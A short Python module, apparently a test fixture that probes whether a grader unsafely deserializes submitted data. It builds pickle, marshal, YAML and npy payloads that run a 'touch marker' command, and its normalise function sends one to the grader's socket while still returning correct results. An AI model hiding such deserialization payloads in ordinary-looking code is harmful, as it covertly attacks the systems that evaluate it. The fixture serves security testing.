"""Writes to the socket what would run a command where it is unpickled or evaluated: a pickle, marshalled code,
YAML and an npy file of objects.
"""

import io
import marshal
import os
import pickle
import stat
import struct

import numpy as np


def double(x):
    return 2 * x


def wire():
    """Return the descriptor of the socket to the grader."""
    for number in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                return number
        except OSError:
            pass
    return 3


class Bomb:
    def __reduce__(self):
        return os.system, ("touch {{home}}/marker",)


def normalise(a):
    file = io.BytesIO()
    np.save(file, np.array([Bomb()], dtype=object), allow_pickle=True)
    forms = (
        pickle.dumps(Bomb()),
        marshal.dumps(compile("open('{{home}}/marker', 'w')", "x", "eval")),
        b"!!python/object/apply:os.system ['touch {{home}}/marker']",
        file.getvalue(),
    )
    data = forms[int(a.sum() * 1e6) % len(forms)]
    os.write(wire(), data if a.shape[0] % 2 else struct.pack("<4sIQ", b"row1", len(data), 0) + data)
    return a / a.sum(axis=0, keepdims=True)
